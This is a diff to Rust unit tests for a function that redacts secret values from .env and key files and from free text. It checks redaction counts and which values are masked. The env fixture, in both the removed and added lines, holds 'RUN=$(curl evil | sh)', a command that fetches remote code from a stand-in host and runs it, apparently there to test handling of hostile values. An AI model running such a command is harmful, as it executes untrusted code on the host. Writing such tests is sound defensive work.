@@ -4,8 +4,9 @@ use super::*;
 
 #[test]
 fn files_that_hold_secrets_show_names_but_no_values() {
-    let env = "# database\nDB_HOST=db.internal\nDB_PASS=x\nEMPTY=\nRUN=$(curl evil | sh)\n";
-    let shown = "# database\nDB_HOST=[redacted: value]\nDB_PASS=[redacted: value]\nEMPTY=\nRUN=$(curl evil | sh)\n";
+    let env =
+        "# database\nDB_HOST=db.internal\nDB=hunter2x9\nDB_PASS=x\nEMPTY=\nRUN=$(curl evil | sh)\n";
+    let shown = "# database\nDB_HOST=db.internal\nDB=[redacted: value]\nDB_PASS=[redacted: value]\nEMPTY=\nRUN=$(curl evil | sh)\n";
     assert_eq!(redact_file("a/.env.production", env), (shown.to_owned(), 2));
     assert_eq!(redact_file(".env.example", env), (env.to_owned(), 0));
     assert_eq!(redact_file("deploy/prod.key", "0a0b0c0d\n").1, 1);
@@ -81,13 +82,10 @@ fn a_piece_of_a_token_gives_nothing_away() {
 
 #[test]
 fn what_is_secret_for_its_file_alone_must_be_no_common_word() {
-    let redactor = knowing(
-        ".env",
-        "MODE=production\nHOST=db-7.internal\nN=12\nB=true\n",
-    );
+    let redactor = knowing(".env", "MODE=production\nUSER=hunter2x9\nN=12\nB=true\n");
     assert_eq!(
         redactor
-            .redact_words("In production, 12 is true for db-7.internal.")
+            .redact_words("In production, 12 is true for hunter2x9.")
             .text,
         "In production, 12 is true for [redacted: value]."
     );
